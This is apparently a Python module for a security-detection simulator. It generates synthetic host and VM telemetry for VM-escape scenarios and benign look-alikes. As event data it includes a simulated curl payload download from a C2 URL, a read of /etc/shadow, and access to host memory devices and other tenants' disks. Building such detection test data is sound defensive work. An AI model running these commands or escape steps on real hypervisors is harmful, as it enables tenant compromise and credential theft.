"""VM escape (T1611): a guest's emulator misbehaving on its hypervisor, and the normal host
activity that looks like it (a VM (re)start, libvirt probing /dev/kvm, an operator's ssh).

Entity: the VM whose emulator misbehaved (``vm``); ``host`` when no VM can be named.
"""

from __future__ import annotations

from typing import Final

from ingest.schema import Event
from ingest.simulator.background import daemon_event, ephemeral_port, qemu_event
from ingest.simulator.scenarios.base import Ctx, Outcome, ScenarioSpec, spec
from ingest.simulator.topology import BASTION_IP, EMULATOR_EXE, VmInfo, qemu_cmdline

__all__ = ["HOST_DEVICES", "SCENARIOS"]

HOST_DEVICES: Final = ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/sda", "/dev/nvme0n1")
_QEMU_UID: Final = 107


def _pid(ctx: Ctx) -> int:
    return ctx.rng.randrange(100_000, 4_000_000)


def _vm_outcome(vm: VmInfo, events: list[Event], **detail: object) -> Outcome:
    return Outcome(vm.tenant, "vm", vm.id, events, {"host": vm.host, **detail})


def shell_spawn(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    shell = ctx.choice(("/bin/sh", "/bin/bash"))
    pid = _pid(ctx)
    c2 = f"http://{ctx.choice(ctx.topo.web_services)}/k"
    steps: list[tuple[str, str, str, str | None]] = [
        ("/usr/bin/id", "execve", "id", None),
        ("/usr/bin/uname", "execve", "uname -a", None),
        (shell, "openat", "", "/etc/shadow"),
        ("/usr/bin/curl", "execve", f"curl -s {c2} -o /tmp/.k", None),
    ]
    steps = steps[: ctx.rng.randrange(1, len(steps) + 1)]
    stamps = ctx.stamps(len(steps) + 2, ctx.duration())
    m = ctx.make
    events = [
        qemu_event(ctx.topo, stamps[0], m, vm, "clone", None),
        m.process(
            stamps[1], shell, "execve", host=vm.host, pid=pid, ppid=vm.qemu_pid, parent_exe=EMULATOR_EXE,
            cmdline=f"{shell} -i", uid=_QEMU_UID, tenant=vm.tenant, vm=vm.id,
        ),
    ]  # fmt: skip
    for ts, (exe, call, args, path) in zip(stamps[2:], steps, strict=True):
        own = exe == shell
        events.append(
            m.process(
                ts, exe, call, host=vm.host, pid=pid if own else _pid(ctx), ppid=vm.qemu_pid if own else pid,
                parent_exe=EMULATOR_EXE if own else shell, cmdline=f"{shell} -i" if own else args,
                uid=_QEMU_UID, path=path, failed=path == "/etc/shadow", tenant=vm.tenant, vm=vm.id,
            )
        )  # fmt: skip
    return _vm_outcome(vm, events, shell=shell)


def host_device_open(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    devices = ctx.rng.sample(HOST_DEVICES, ctx.rng.randrange(1, 4))
    stamps = ctx.stamps(2 * len(devices), ctx.duration())
    events: list[Event] = []
    for i, dev in enumerate(devices):
        denied = ctx.rng.random() < 0.3
        events.append(qemu_event(ctx.topo, stamps[2 * i], ctx.make, vm, "openat", dev, failed=denied))
        if not denied:
            events.append(qemu_event(ctx.topo, stamps[2 * i + 1], ctx.make, vm, "read", dev))
    return _vm_outcome(vm, events, devices=devices)


def foreign_disk_open(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    same_host = [v for v in ctx.topo.vms_on_host(vm.host) if v.id != vm.id]
    foreign = [v for v in same_host if v.tenant != vm.tenant]
    victim = ctx.choice(foreign or same_host or [v for v in ctx.topo.vms if v.id != vm.id])
    n = ctx.rng.randrange(2, 8)
    stamps = ctx.stamps(n, ctx.duration())
    calls = ["openat", *(ctx.choice(("pread64", "pread64", "pwrite64")) for _ in range(n - 1))]
    events = [
        qemu_event(ctx.topo, ts, ctx.make, vm, c, victim.disk) for ts, c in zip(stamps, calls, strict=True)
    ]
    return _vm_outcome(vm, events, victim_vm=victim.id, victim_tenant=victim.tenant, path=victim.disk)


def kernel_module(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    ko = f"/tmp/.{ctx.rng.getrandbits(24):06x}/vhost_ext.ko"  # noqa: S108
    stamps = ctx.stamps(2, ctx.duration())
    if ctx.rng.random() < 0.5:
        events = [
            qemu_event(ctx.topo, stamps[0], ctx.make, vm, "openat", ko),
            qemu_event(ctx.topo, stamps[1], ctx.make, vm, "finit_module", ko),
        ]
    else:
        events = [
            qemu_event(ctx.topo, stamps[0], ctx.make, vm, "mmap", None),
            qemu_event(ctx.topo, stamps[1], ctx.make, vm, "init_module", None),
        ]
    return _vm_outcome(vm, events, module=ko)


def namespace_escape(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    calls = [("setns", "/proc/1/ns/mnt"), ("unshare", None), ("mount", "/mnt/.host")]
    calls = calls[: ctx.rng.randrange(1, 4)] if ctx.rng.random() < 0.5 else ctx.rng.sample(calls, 2)
    stamps = ctx.stamps(len(calls), ctx.duration())
    events = [
        qemu_event(ctx.topo, ts, ctx.make, vm, call, path, failed=ctx.rng.random() < 0.2)
        for ts, (call, path) in zip(stamps, calls, strict=True)
    ]
    return _vm_outcome(vm, events, syscalls=[c for c, _ in calls])


def ptrace_other(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    others = [v for v in ctx.topo.vms_on_host(vm.host) if v.id != vm.id] or [vm]
    target = ctx.choice(others)
    stamps = ctx.stamps(2, ctx.duration())
    extra = {"target_pid": target.qemu_pid}
    m = ctx.make
    events: list[Event] = [
        m.process(
            ts, EMULATOR_EXE, call, host=vm.host, pid=vm.qemu_pid,
            ppid=ctx.topo.host_by_id[vm.host].daemon_pid, parent_exe=ctx.topo.host_by_id[vm.host].daemon,
            cmdline=qemu_cmdline(vm), uid=_QEMU_UID, path=f"/proc/{target.qemu_pid}/mem",
            tenant=vm.tenant, vm=vm.id, extra=extra,
        )
        for ts, call in zip(stamps, ("ptrace", "process_vm_readv"), strict=True)
    ]  # fmt: skip
    return _vm_outcome(vm, events, target_vm=target.id, target_pid=target.qemu_pid)


def kvm_device_abuse(ctx: Ctx) -> Outcome:
    host = ctx.choice(ctx.topo.hosts)
    exe = ctx.choice(("/tmp/.ICE-unix/.kw", "/dev/shm/.x/kvmtool", "/usr/bin/python3"))  # noqa: S108
    pid, ppid = _pid(ctx), _pid(ctx)
    calls = [
        ("openat", "/dev/kvm"),
        ("ioctl", "/dev/kvm"),
        ("openat", ctx.choice(("/dev/vhost-net", "/dev/vhost-vsock"))),
    ]
    stamps = ctx.stamps(len(calls), ctx.duration())
    events: list[Event] = [
        ctx.make.process(
            ts, exe, call, host=host.id, pid=pid, ppid=ppid, parent_exe="/bin/sh", cmdline=exe, uid=0, path=p
        )
        for ts, (call, p) in zip(stamps, calls, strict=True)
    ]
    return Outcome(None, "host", host.id, events, {"exe": exe})


def mgmt_plane_access(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    own = ctx.topo.host_by_id[vm.host].mgmt_ip
    n = ctx.rng.randrange(3, 16)
    events: list[Event] = []
    for ts in ctx.stamps(n, ctx.duration()):
        dst = own if ctx.rng.random() < 0.7 else ctx.choice(ctx.topo.hosts).mgmt_ip
        ok = ctx.rng.random() < 0.4
        events.append(
            ctx.make.flow(
                ts, vm.ip, dst, src_port=ephemeral_port(ctx.rng),
                dst_port=ctx.choice((22, 16509, 16514, 5900, 443, 9100)),
                bytes_out=ctx.rng.randrange(60, 4000) if ok else 60,
                bytes_in=ctx.rng.randrange(60, 9000) if ok else 0, packets_out=ctx.rng.randrange(1, 12),
                packets_in=ctx.rng.randrange(1, 12) if ok else 0, duration_ms=ctx.rng.randrange(1, 3000),
                action="accept" if ok else "reject", tenant=vm.tenant, host=vm.host, vm=vm.id,
            )
        )  # fmt: skip
    return _vm_outcome(vm, events, mgmt_ip=own)


# --- look-alikes ----------------------------------------------------------------------------------
def benign_vm_restart(ctx: Ctx) -> Outcome:
    vm = ctx.vm()
    host = ctx.topo.host_by_id[vm.host]
    stamps = ctx.stamps(9, ctx.duration())
    m, t = ctx.make, ctx.topo
    events = [
        daemon_event(t, stamps[0], m, host.id, "openat", "/dev/kvm"),
        daemon_event(t, stamps[1], m, host.id, "openat", "/dev/net/tun"),
        daemon_event(t, stamps[2], m, host.id, "openat", "/dev/vhost-net"),
        daemon_event(t, stamps[3], m, host.id, "chown", vm.disk),
        m.process(
            stamps[4], EMULATOR_EXE, "execve", host=vm.host, pid=vm.qemu_pid, ppid=host.daemon_pid,
            parent_exe=host.daemon, cmdline=qemu_cmdline(vm), uid=_QEMU_UID, tenant=vm.tenant, vm=vm.id,
        ),
        qemu_event(t, stamps[5], m, vm, "openat", "disk"),
        qemu_event(t, stamps[6], m, vm, "ioctl", "/dev/kvm"),
        qemu_event(t, stamps[7], m, vm, "mmap", None),
        qemu_event(t, stamps[8], m, vm, "ioctl", "/dev/vhost-net"),
    ]  # fmt: skip
    return _vm_outcome(vm, events)


def benign_libvirtd_kvm(ctx: Ctx) -> Outcome:
    host = ctx.choice(ctx.topo.hosts)
    calls = [
        ("openat", "/dev/kvm"),
        ("ioctl", "/dev/kvm"),
        ("openat", "/dev/vhost-net"),
        ("openat", "/dev/vhost-vsock"),
    ]
    stamps = ctx.stamps(len(calls), ctx.duration())
    events = [
        daemon_event(ctx.topo, ts, ctx.make, host.id, call, p)
        for ts, (call, p) in zip(stamps, calls, strict=True)
    ]
    return Outcome(None, "host", host.id, events, {"exe": host.daemon})


def benign_admin_ssh(ctx: Ctx) -> Outcome:
    host = ctx.choice(ctx.topo.hosts)
    user = ctx.choice(("ops-admin", "root"))
    stamps = ctx.stamps(4, ctx.duration())
    m = ctx.make
    sshd_pid, shell_pid = _pid(ctx), _pid(ctx)
    events: list[Event] = [
        m.flow(
            stamps[0], BASTION_IP, host.mgmt_ip, src_port=ephemeral_port(ctx.rng), dst_port=22,
            bytes_out=ctx.rng.randrange(4000, 90000), bytes_in=ctx.rng.randrange(6000, 200000),
            packets_out=ctx.rng.randrange(30, 400), packets_in=ctx.rng.randrange(30, 400),
            duration_ms=ctx.rng.randrange(30_000, 900_000), host=host.id,
        ),
        m.auth(
            stamps[1], user, BASTION_IP, failed=False, method="publickey", tenant=None, host=host.id, vm=None
        ),
        m.process(
            stamps[2], "/usr/sbin/sshd", "execve", host=host.id, pid=sshd_pid, ppid=_pid(ctx),
            parent_exe="/usr/sbin/sshd", cmdline=f"sshd: {user} [priv]", uid=0,
        ),
        m.process(
            stamps[3], "/bin/bash", "execve", host=host.id, pid=shell_pid, ppid=sshd_pid,
            parent_exe="/usr/sbin/sshd", cmdline="-bash", uid=0,
        ),
    ]  # fmt: skip
    return Outcome(None, "host", host.id, events, {"src_ip": BASTION_IP, "user": user})


SCENARIOS: Final[dict[str, ScenarioSpec]] = {
    s.name: s
    for s in (
        spec("vm_escape.shell_spawn", shell_spawn, technique="T1611", span_s=(2, 60),
             summary="the emulator of a VM execs a shell (parent_exe qemu) that runs commands on the host"),
        spec("vm_escape.host_device_open", host_device_open, technique="T1611", span_s=(1, 30),
             summary="the emulator opens host memory or raw block devices"),
        spec("vm_escape.foreign_disk_open", foreign_disk_open, technique="T1611", span_s=(2, 60),
             summary="the emulator opens another VM's disk (another tenant's if one shares the host)"),
        spec("vm_escape.kernel_module", kernel_module, technique="T1611", span_s=(1, 20),
             summary="the emulator loads a kernel module (init_module / finit_module)"),
        spec("vm_escape.namespace_escape", namespace_escape, technique="T1611", span_s=(1, 20),
             summary="the emulator calls setns / unshare / mount"),
        spec("vm_escape.ptrace", ptrace_other, technique="T1611", span_s=(1, 20),
             summary="the emulator ptraces another VM's emulator (extra.target_pid)"),
        spec("vm_escape.kvm_device_abuse", kvm_device_abuse, technique="T1611", span_s=(1, 30),
             summary="a process that is neither the emulator nor libvirt opens /dev/kvm or /dev/vhost-*"),
        spec("vm_escape.mgmt_plane_access", mgmt_plane_access, technique="T1611", span_s=(10, 300),
             summary="a guest sends traffic to the hypervisor management plane (172.31.0.0/16)"),
        spec("vm_escape.benign_vm_restart", benign_vm_restart, technique="T1611", span_s=(2, 20),
             summary="libvirt restarts a VM: daemon opens /dev/kvm, tun, vhost; qemu opens its own disk"),
        spec("vm_escape.benign_libvirtd_kvm", benign_libvirtd_kvm, technique="T1611", span_s=(1, 10),
             summary="libvirtd / virtqemud probes /dev/kvm and /dev/vhost-*"),
        spec("vm_escape.benign_admin_ssh", benign_admin_ssh, technique="T1611", span_s=(5, 120),
             summary="an operator sshes to a host from the mgmt bastion, gets a shell (parent sshd)"),
    )
}  # fmt: skip
